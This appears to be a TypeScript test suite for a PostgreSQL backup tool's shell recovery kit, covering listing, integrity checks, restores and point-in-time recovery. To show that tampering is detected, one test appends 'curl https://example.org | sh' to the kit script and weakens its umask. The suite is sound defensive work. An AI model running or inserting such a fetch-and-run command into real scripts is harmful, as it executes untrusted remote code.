// The recovery kit of a store: its script restores on a machine that has age, zstd, tar and PostgreSQL, and neither Node nor Kubernetes.
import { execFile } from 'node:child_process';
import { chmodSync, existsSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import test from 'ava';
import { damagedKit, kitFiles } from '../../src/archive/kit/kit.ts';
import { openDirectory } from '../../src/stores/directory.ts';
import { runHere } from '../commands/capture.ts';
import type { PostgresServer } from '../engines/postgres-server.ts';
import { until } from '../wal/receiver-run.ts';
import type { RunningReceiver } from '../wal/receiver-run.ts';
import { machineShell } from './other-machine.ts';
import { makeWorld } from './world.ts';
import type { World } from './world.ts';

let world: World;
let server: PostgresServer;
let receiver: RunningReceiver;
let full: string;
let increment: string;
let kit: string;
let commitTime: string;

const run = promisify(execFile);
const inWorld = (name: string): string => join(world.fixture.directory, name);

// In a copy of the store that nobody else may have touched, as the page says.
const sh = (words: string) => machineShell(`cd ${world.directory}; sh ${kit} ${words}`);

const must = async (words: string): Promise<string> => {
  const { code, stdout, stderr } = await sh(words);
  if (code !== 0) {
    throw new Error(`${words}: ${code}: ${stderr}`);
  }
  return stdout;
};

const rowsIn = async (dataDirectory: string): Promise<number> => {
  const { stdout, stderr } = await machineShell(
    `pg_ctl --pgdata=${dataDirectory} --options='-p 5433 -k ${dataDirectory}' --log=${dataDirectory}/log --wait start >/dev/null || { cat ${dataDirectory}/log >&2; exit 1; }
     psql -h ${dataDirectory} -p 5433 -U postgres -Atc 'SELECT count(*) FROM kept' postgres
     pg_ctl --pgdata=${dataDirectory} --mode=immediate --wait stop >/dev/null`,
  );
  if (stdout === '') {
    throw new Error(stderr);
  }
  return Number(stdout);
};

test.before(async () => {
  world = await makeWorld();
  server = await world.fixture.start('main', { summarize_wal: 'on', max_slot_wal_keep_size: '1GB', track_commit_timestamp: 'on' });
  await server.query('CREATE TABLE kept AS SELECT generate_series(1, 1000) AS n');
  receiver = await world.receive(server);
  await until('the receiver stores something', () => receiver.newest() !== undefined, 60, receiver);
  full = await world.backUp(server, '2026-11-22T02:00:00Z');
  await server.query('INSERT INTO kept SELECT generate_series(1001, 1500)');
  ({ id: increment } = await world.backUpOn(server, '2026-11-22T03:00:00Z', {
    parentId: full,
    required: true,
    changes: { logical: { enabled: false, databases: [], globals: false, credentialsDirectory: '' } },
  }));
  await server.query('INSERT INTO kept SELECT generate_series(1501, 1700)');
  const [row] = await server.query<{ time: string }>(`SELECT pg_xact_commit_timestamp(xmin)::text AS time FROM kept WHERE n = 1700`);
  commitTime = row?.time ?? '';
  await server.query('INSERT INTO kept VALUES (9999)');
  const [{ lsn } = { lsn: '' }] = await server.query<{ lsn: string }>('SELECT pg_current_wal_flush_lsn()::text AS lsn');
  await until('the WAL is stored', () => (receiver.newest()?.storedLsn ?? '') >= lsn, 60, receiver);
  await receiver.stop();
  await run('chmod', ['--recursive', 'a+rX', world.directory]);
  chmodSync(world.identityFile, 0o644);
  kit = kitFiles()[0]?.key ?? '';
});

test.after.always(async () => {
  await receiver?.kill();
  await world?.stop();
});

test.serial('the kit lies in the store, under the digest of its content, and that is checked', async (t) => {
  const stored = readdirSync(join(world.directory, 'kit')).map((name) => `kit/${name}`);
  t.deepEqual(
    stored.toSorted(),
    kitFiles()
      .map(({ key }) => key)
      .toSorted(),
  );
  const store = openDirectory({ kind: 'directory', directory: world.directory });
  const objects = () => stored.map((key) => ({ key, sizeBytes: statSync(join(world.directory, key)).size }));
  t.deepEqual(await damagedKit(store, objects(), true), []);
  const path = join(world.directory, kit);
  const content = readFileSync(path);
  chmodSync(path, 0o644);
  writeFileSync(path, `${content.toString()}curl https://example.org | sh\n`);
  t.like(await damagedKit(store, objects(), false), { 0: { key: kit, code: 'DigestMismatch' }, length: 1 });
  // Of the same size: only a look at its bytes finds it.
  writeFileSync(path, content.toString().replace('umask 077', 'umask 000'));
  t.deepEqual(await damagedKit(store, objects(), false), []);
  t.like(await damagedKit(store, objects(), true), { 0: { key: kit, code: 'DigestMismatch' }, length: 1 });
  const listed = await runHere(['list', '--check', '--from', world.directory, '--verification-key', world.identityFile]);
  t.regex(listed.stderr, /kit\/restore-\w+\.sh/);
  writeFileSync(path, content);
  chmodSync(path, 0o644);
});

test.serial('the script is plain sh', async (t) => {
  const { stdout } = await run('shellcheck', ['--shell=sh', join(world.directory, kit)]).catch((error: { stdout: string }) => error);
  t.is(stdout, '');
});

test.serial('there is no Node on that machine', async (t) => {
  t.not((await machineShell('command -v node')).code, 0);
});

test.serial('list and check: what there is, and whether it is whole and genuine', async (t) => {
  const listed = await must('list');
  t.regex(listed, new RegExp(`^${full}  \\S+Z`, 'm'));
  t.regex(await must(`check ${full}`), /all \d+ objects are as they were stored/);
  const key = inWorld('key.pem');
  writeFileSync(key, `-----BEGIN PUBLIC KEY-----\n${world.verificationKey.key}\n-----END PUBLIC KEY-----\n`);
  const genuine = await machineShell(`cd ${world.directory}; VERIFICATION_KEY=${key} sh ${kit} check latest`);
  t.is(genuine.code, 0, genuine.stderr);
  t.regex(genuine.stderr, /Signature Verified Successfully/);
  const path = join(world.directory, `data/${full}/db/1/facts.json.zst.age.00001`);
  const content = readFileSync(path);
  writeFileSync(path, Buffer.concat([content.subarray(0, -1), Buffer.from([(content.at(-1) ?? 0) ^ 1])]));
  const changed = await sh(`check ${full}`);
  writeFileSync(path, content);
  t.is(changed.code, 1);
  t.regex(changed.stderr, /not whole/);
});

test.serial('physical: a Full, and an increment joined to its Full; both start', async (t) => {
  await must(`physical ${full} ${world.identityFile} ${inWorld('a')}`);
  t.is(await rowsIn(inWorld('a')), 1000);
  await must(`physical latest ${world.identityFile} ${inWorld('b')}`);
  t.is(await rowsIn(inWorld('b')), 1500);
  t.true(increment > full);
  const again = await sh(`physical latest ${world.identityFile} ${inWorld('b')}`);
  t.is(again.code, 1);
  t.regex(again.stderr, /is there already/);
});

test.serial('dumps: files for psql and pg_restore', async (t) => {
  await must(`dumps ${full} ${world.identityFile} ${inWorld('dumps')}`);
  t.true(existsSync(inWorld('dumps/globals.sql')));
  const { stdout } = await machineShell(`pg_restore --list ${inWorld('dumps/postgres.dump')}`);
  t.regex(stdout, /TABLE DATA public kept/);
});

test.serial('to a point in time by the page: the row before is there, the one after is not', async (t) => {
  const to = inWorld('pitr');
  await must(`physical latest ${world.identityFile} ${to}`);
  const [lineage] = readdirSync(join(world.directory, 'wal'));
  const settings = [
    `restore_command = 'STORE=${world.directory} sh ${world.directory}/${kit} wal ${lineage} ${world.identityFile} %f "%p"'`,
    `recovery_target_time = '${commitTime}'`,
    `recovery_target_action = 'promote'`,
  ];
  const { code, stderr } = await machineShell(
    `cat >>${to}/postgresql.auto.conf <<'END'\n${settings.join('\n')}\nEND\ntouch ${to}/recovery.signal`,
  );
  t.is(code, 0, stderr);
  t.is(await rowsIn(to), 1700);
  t.regex(readFileSync(join(to, 'log'), 'utf8'), /recovery stopping before commit/);
});

test.serial(
  'restore_command by the script: 1 for what is not there and has nothing behind it, 200 for a hole and for a key that does not fit',
  async (t) => {
    const [lineage = ''] = readdirSync(join(world.directory, 'wal'));
    const ask = async (name: string, identity = world.identityFile) =>
      (await sh(`wal ${lineage} ${identity} ${name} ${inWorld('x')}`)).code;
    t.is(await ask('00000001000000FF000000FF'), 1);
    t.is(await ask('00000009.history'), 1);
    t.is(await ask('000000010000000000000000'), 200);
    const pieces = readdirSync(join(world.directory, 'wal', lineage, '00000001'), { recursive: true, encoding: 'utf8' }).filter((name) =>
      name.endsWith('.age'),
    );
    const segment = /([0-9A-F]{24})/.exec(pieces.at(-1) ?? '')?.[1] ?? '';
    t.is(await ask(segment), 0);
    t.is(readFileSync(inWorld('x')).length, 16 * 1024 ** 2);
    writeFileSync(inWorld('other.txt'), 'AGE-SECRET-KEY-1QQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQ\n');
    rmSync(inWorld('x'), { force: true });
    t.is(await ask(segment, inWorld('other.txt')), 200);
  },
);
